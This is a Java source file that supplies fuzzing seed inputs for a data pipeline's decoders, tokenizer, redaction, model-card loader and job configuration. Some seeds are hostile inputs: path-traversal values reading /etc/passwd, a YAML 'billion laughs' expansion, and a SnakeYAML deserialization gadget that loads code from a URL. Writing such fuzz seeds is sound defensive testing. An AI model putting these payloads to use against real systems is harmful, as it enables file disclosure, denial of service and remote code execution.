package io.runnel.fuzz;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.runnel.schemas.codec.AvroDocumentCodec;
import io.runnel.schemas.codec.AvroEnrichedCodec;
import io.runnel.schemas.codec.Decoded;
import io.runnel.schemas.codec.DocumentCodec;
import io.runnel.schemas.codec.JsonDocumentCodec;
import io.runnel.schemas.codec.JsonEnrichedCodec;
import io.runnel.schemas.document.Document;
import io.runnel.schemas.document.Origin;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/**
 * Inputs that already go deep into a target, for the fuzzer to start from and for the tests to
 * mutate.
 */
public final class Seeds {
    private Seeds() {}

    /**
     * The seeds of a target.
     *
     * @throws IllegalArgumentException if there is no such target
     */
    public static List<byte[]> of(String target) {
        return switch (target) {
            case "DocumentDecoding" -> documents();
            case "EnrichedDecoding" -> enriched();
            case "TokenizerBoundary" -> texts();
            case "Redaction" -> personal();
            case "ModelFolder" -> cards();
            case "JobConfiguration" -> options();
            default -> throw new IllegalArgumentException("There is no target " + target + ".");
        };
    }

    /** Writes the seeds of a target into a folder: {@code Seeds TARGET FOLDER}. */
    public static void main(String[] arguments) throws IOException {
        List<byte[]> seeds = of(arguments[0]);
        for (int i = 0; i < seeds.size(); i++) {
            Files.write(Path.of(arguments[1], "seed-" + i), seeds.get(i));
        }
    }

    private static List<byte[]> documents() {
        List<byte[]> seeds = new ArrayList<>();
        Stream.of(
                        "\0{\"id\":\"1\",\"line_items\":[{\"description\":\"Paper\",\"amount\":12.5}]}",
                        "\1{\"id\":\"1\",\"turns\":[{\"speaker\":\"agent\",\"text\":\"Hello\"}]}",
                        "\2{\"id\":\"1\",\"text\":\"Where is it?\",\"more\":{\"a\":[1,2,{}]}}",
                        "\2{\"id\":\"1\",\"text\":\"" + "[".repeat(5_000) + "\"}",
                        "\2" + "[".repeat(50_000),
                        "\5\2x\0")
                .map(text -> text.getBytes(UTF_8))
                .forEach(seeds::add);
        seeds.add(
                avro(3, JsonDocumentCodec.invoices(), AvroDocumentCodec.invoices(), seeds.get(0)));
        seeds.add(
                avro(
                        4,
                        JsonDocumentCodec.transcripts(),
                        AvroDocumentCodec.transcripts(),
                        seeds.get(1)));
        seeds.add(avro(5, JsonDocumentCodec.tickets(), AvroDocumentCodec.tickets(), seeds.get(2)));
        return seeds;
    }

    /** The document of another seed in Avro. */
    private static <D extends Document> byte[] avro(
            int codec, DocumentCodec<D> json, DocumentCodec<D> avro, byte[] seed) {
        byte[] payload = Arrays.copyOfRange(seed, 1, seed.length);
        if (json.decode(new Origin("seed", 0, 0, 0, null, List.of(), payload))
                instanceof Decoded.Read<D> read) {
            return prefixed(codec, avro.encode(read.document()));
        }
        throw new IllegalStateException("A seed is no document: " + new String(payload, UTF_8));
    }

    private static List<byte[]> enriched() {
        List<byte[]> seeds = new ArrayList<>();
        for (String line : lines("/seeds/enriched.jsonl")) {
            byte[] json = line.getBytes(UTF_8);
            seeds.add(prefixed(0, json));
            seeds.add(
                    prefixed(
                            1,
                            new AvroEnrichedCodec().encode(new JsonEnrichedCodec().decode(json))));
        }
        seeds.add("\1\2\2x".getBytes(UTF_8));
        return seeds;
    }

    private static List<String> lines(String resource) {
        try (InputStream stream = Seeds.class.getResourceAsStream(resource)) {
            return new String(stream.readAllBytes(), UTF_8).lines().toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] prefixed(int codec, byte[] payload) {
        byte[] seed = new byte[payload.length + 1];
        seed[0] = (byte) codec;
        System.arraycopy(payload, 0, seed, 1, payload.length);
        return seed;
    }

    private static List<byte[]> texts() {
        List<byte[]> texts = new ArrayList<>();
        // Two halves of one character, the wrong way round, and a letter between.
        texts.add(new byte[] {0, (byte) 0xDC, (byte) 0xB3, 0, 'a', (byte) 0xD8, 0x3D});
        Stream.of(
                        "\1Hello, I paid £25.99 with my card 💳 at Café Müller.",
                        "\1e\u0301\u0301 \u200D👩‍👩‍👧 \u202E abc \uFEFF",
                        "\1" + "x".repeat(3_000),
                        "\1" + "a b. ".repeat(600))
                .map(text -> text.getBytes(UTF_8))
                .forEach(texts::add);
        return texts;
    }

    private static List<byte[]> personal() {
        return Stream.of(
                        "{\"id\":\"1\",\"text\":\"anna@example.com, +49 30 901820\",\"a@b.com\":[4111111111111111]}",
                        "{\"id\":4111111111111111,\"text\":\"DE89 3704 0044 0532 0130 00\"}",
                        "{\"id\":\"1\",\"text\":\"x\",\"a\\u0040b.com\":1,\"c@d.com\":1e999999999}",
                        "{\"id\":\"\\ud83d\",\"text\":\"536-90-4399\",\"turns\":null}",
                        "anna@example.com \\u0040")
                .map(text -> text.getBytes(UTF_8))
                .toList();
    }

    private static List<byte[]> cards() {
        return Stream.of(
                        "name: a\nversion: 1\nfile: onnx/model.onnx\n",
                        "file: ../../etc/passwd\n",
                        "digests: {\"/etc/passwd\": 00}\n",
                        "file: link/etc/passwd\n",
                        "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c"
                                + " [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne:"
                                + " &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
                                + "g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
                        "heads: " + "[".repeat(5_000),
                        "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]\n")
                .map(text -> text.getBytes(UTF_8))
                .toList();
    }

    private static List<byte[]> options() {
        return Stream.of(
                        "--type ticket --kafka.bootstrap-servers a:1\ndelivery: {guarantee:"
                                + " at-least-once}\n",
                        "--type=ticket --kafka.properties.sasl.jaas.config=x\n",
                        "--config --config\nkafka: [1]\n",
                        "\nkafka: {sink: {max-record-bytes: 99999999999999999999 gb}}\n",
                        "\ndelivery.transaction-timeout: -1 d\n",
                        "\na: &a {b: *a}\n")
                .map(text -> text.getBytes(UTF_8))
                .toList();
    }
}
